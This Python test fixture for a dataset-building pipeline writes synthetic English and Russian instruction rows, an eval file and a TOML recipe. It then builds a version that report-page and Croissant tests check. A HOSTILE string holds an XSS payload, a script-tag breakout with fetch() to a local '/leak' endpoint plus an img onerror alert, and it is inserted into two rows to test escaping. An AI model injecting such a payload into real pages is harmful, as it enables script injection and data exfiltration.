"""The input of the version the report page and Croissant tests look at, and how it is built.

Every count a test expects is counted here from the rows written, never read from the build."""

from __future__ import annotations

import json
from pathlib import Path

HOSTILE = '</script><script>fetch("http://127.0.0.1:9/leak")</script><img src=x onerror="alert(1)">'
WORDS = ["alpha", "beta", "gamma", "delta", "epsilon", "zeta", "eta", "theta", "iota", "kappa", "lambda"]


def _english(i: int) -> dict:
    body = " ".join(f"{WORDS[(i + k) % len(WORDS)]}{i}" for k in range(40))
    return {
        "instruction": f"Write a function number {i} that handles {body}.",
        "input": "",
        "output": f"Here it is: `f{i}(x)` returns x.\n\n```python\ndef f{i}(x):\n    return x + {i}\n```\n\nDone {i}.",
    }


def _russian(i: int, words: int = 12) -> dict:
    body = " ".join(f"слово{i}номер{k}" for k in range(words))
    return {"instruction": f"Напишите функцию номер {i}, которая обрабатывает {body}.", "input": "",
            "output": f"Ответ {i}: `g{i}(y)`."}  # fmt: skip


def build_report_version(folder: Path, packages_dir: Path) -> dict:
    from dataset_builder.publishing.pipeline import build
    from dataset_builder.recipe.schema import load_recipe
    from dataset_builder.registry.store import Registry

    english = [_english(i) for i in range(20)]
    near = [dict(english[i], output=english[i]["output"] + " Thanks.") for i in range(3)]
    contaminated = {
        "instruction": f"Напишите функцию, которая печатает {HOSTILE} и считает строки файла с данными.",
        "input": "",
        "output": "Ответ: `print(len(open(p).readlines()))`.",
    }
    russian = [_russian(i) for i in range(8)]
    long_rows = [_russian(100 + i, words=400) for i in range(2)]
    empty = {"instruction": f"Пустой ответ {HOSTILE}", "input": "", "output": ""}
    ru_rows = [*russian, contaminated, *long_rows, empty]
    (folder / "en.jsonl").write_text(
        "".join(json.dumps(r) + "\n" for r in [*english, *near]), encoding="utf-8"
    )
    (folder / "ru.jsonl").write_text(
        "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in ru_rows), encoding="utf-8"
    )
    (folder / "eval.jsonl").write_text(
        json.dumps({"prompt": contaminated["instruction"]}, ensure_ascii=False) + "\n", encoding="utf-8"
    )
    recipe = folder / "recipe.toml"
    recipe.write_text(
        f"""
[dataset]
name = "report-test"
version = "1.2.0"
description = "Rows for the report page test."
license = "apache-2.0"
language = ["ru"]

[[sources]]
name = "en"
adapter = "alpaca"
paths = ["en.jsonl"]
license = "apache-2.0"

[[sources]]
name = "ru"
adapter = "alpaca"
paths = ["ru.jsonl"]
language = "ru"

[[stages]]
type = "normalize"

[[stages]]
type = "quality"

[[stages]]
type = "near_dedup"
fields = ["user", "assistant"]
threshold = 0.8

[[stages]]
type = "translate"
packages_dir = "{packages_dir}"
cache_path = "cache.sqlite"
inter_threads = 1
intra_threads = 1
min_length_ratio = 0.0
max_length_ratio = 1000.0
verify_language = false
check_repetition = false

[[stages]]
type = "split"
test_ratio = 0.2
seed = 3

[[stages]]
type = "decontaminate"
test_split = false
method = "minhash"
threshold = 0.7
fields = ["user"]

[[stages.eval_sets]]
name = "ru-eval"
paths = ["eval.jsonl"]
columns = ["prompt"]
language = "ru"

[[stages]]
type = "format"
tokenizer = "zephyr"
max_tokens = 600

[publish]
max_rejected_fraction = 1.0
""",
        encoding="utf-8",
    )
    registry = Registry(folder / "registry")
    result = build(load_recipe(recipe), registry, show_progress=False)
    return {
        "registry": registry,
        "recipe": recipe,
        "ref": result.ref,
        "path": result.path,
        "folder": folder,
        "read": {"en": len(english) + len(near), "ru": len(ru_rows)},
        "near_duplicates": len(near),
        "contaminated": contaminated,
        "long_rows": len(long_rows),
        "inputs": [folder / "en.jsonl", folder / "ru.jsonl"],
        "eval": folder / "eval.jsonl",
    }
